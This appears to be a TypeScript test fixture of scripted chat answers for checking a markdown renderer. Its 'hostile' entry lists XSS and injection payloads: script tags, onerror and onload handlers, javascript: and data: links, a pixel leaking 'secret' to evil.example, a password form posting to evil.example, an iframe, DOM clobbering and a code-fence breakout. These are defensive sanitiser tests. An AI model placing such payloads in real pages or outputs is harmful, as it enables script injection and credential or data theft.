/** Answers of the scripted engine, by question. */

const RICH = `## How a bundle is made

The compiler lowers the model, **fuses** its operations and schedules each kernel:

1. \`export\` turns the definition into an *IRModule*
2. passes fuse what belongs together
3. a rule schedules every kernel

\`\`\`python
import mlcpipe

bundle = mlcpipe.compile("checkpoint", target="webgpu", output="bundle")
engine = mlcpipe.Engine(bundle)
print(engine.chat([{"role": "user", "content": "Hello"}]).text)
\`\`\`

| scheme | bits | groups |
|---|---|---|
| q4f16_1 | 4.5 | 32 |
| q0f16 | 16 | none |

> A bundle is a folder: weights, library, tokenizer.

See [the specification](https://www.w3.org/TR/webgpu/) for the limits.`;

const HOSTILE = `Hello <script>window.hacked = 1</script> <img src="https://evil.example/x.png" onerror="window.hacked = 2">

![pixel](https://evil.example/leak?q=secret)

[click](javascript:window.hacked=3) [data](data:text/html,<script>1</script>) [up](//evil.example/) [ok](https://example.org/a)

<form action="https://evil.example"><input name="password"></form> <style>body { display: none }</style>
<iframe src="https://evil.example"></iframe> <svg onload="window.hacked = 4"></svg> <a href="x" id="app">clobber</a>

\`\`\`html"><img src=x onerror=window.hacked=5>
<b>code</b>
\`\`\`

- [x] done`;

export const ANSWERS: Record<string, string> = {
  "How is a bundle made?": RICH,
  hostile: HOSTILE,
  "Count to a thousand": Array.from({ length: 1000 }, (_, i) => `${i + 1}`).join(" "),
  "Write a long line": "```\n" + "a very long line of code ".repeat(20) + "\n```",
};
